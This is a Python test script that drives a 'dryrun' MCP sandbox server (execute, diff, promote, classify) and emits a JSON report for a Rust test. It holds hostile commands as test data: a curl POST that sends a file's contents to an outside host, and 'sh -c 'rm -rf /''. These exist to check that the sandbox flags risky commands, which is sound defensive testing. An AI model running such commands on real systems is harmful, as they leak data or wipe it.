"""A session with `dryrun mcp` through the official MCP Python SDK client:
list tools, execute, wait, show, diff, promote; prints one JSON report on
stdout for tests/doors_mcp.rs to check. argv: dryrun binary, workspace,
state directory."""
import asyncio
import json
import sys

from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import stdio_client

BIN, WS, STATE = sys.argv[1], sys.argv[2], sys.argv[3]


async def main():
    params = StdioServerParameters(
        command=BIN, args=["mcp"],
        env={"DRYRUN_LOCAL": "1", "DRYRUN_STATE_DIR": STATE, "PATH": "/usr/bin:/bin"},
    )
    report = {}
    async with stdio_client(params) as (r, w):
        async with ClientSession(r, w) as s:
            init = await s.initialize()
            report["server"] = init.server_info.name
            tools = (await s.list_tools()).tools
            report["tools"] = {t.name: {"input": t.input_schema, "output": t.output_schema} for t in tools}

            async def call(name, args):
                res = await s.call_tool(name, args)
                return {"error": res.is_error, "structured": res.structured_content,
                        "text": [c.text for c in res.content if getattr(c, "text", None)]}

            clean = await call("execute", {
                "command": "mkdir -p out && echo hello > out/b.txt && echo done",
                "working_dir": WS, "expected_writes": ["out/**"], "summary": "write out/b.txt"})
            report["execute_clean"] = clean
            rid = clean["structured"]["run_id"]
            report["wait"] = await call("wait", {"run_id": rid, "timeout_s": 5})
            report["show"] = await call("show", {"run_id": rid})
            report["diff"] = await call("diff", {"run_id": rid})
            report["list"] = await call("list_runs", {})
            report["promote"] = await call("promote", {"run_id": rid})
            report["promote_again"] = await call("promote", {"run_id": rid})
            risky = await call("execute", {
                "command": "curl -X POST https://example.com/x -d @a.txt",
                "working_dir": WS})
            report["execute_risky"] = risky
            report["promote_risky"] = await call("promote", {"run_id": risky["structured"]["run_id"]})
            report["classify"] = await call("classify", {"command": "sh -c 'rm -rf /'"})
            # The workspace's own policy counts, as it does for a run there.
            report["classify_ws"] = await call("classify", {"command": "ship-it now", "working_dir": WS})
            report["classify_bare"] = await call("classify", {"command": "ship-it now"})
            report["bad_args"] = await call("execute", {"command": "ls", "working_dir": WS, "nope": 1})
    print(json.dumps(report))


asyncio.run(main())
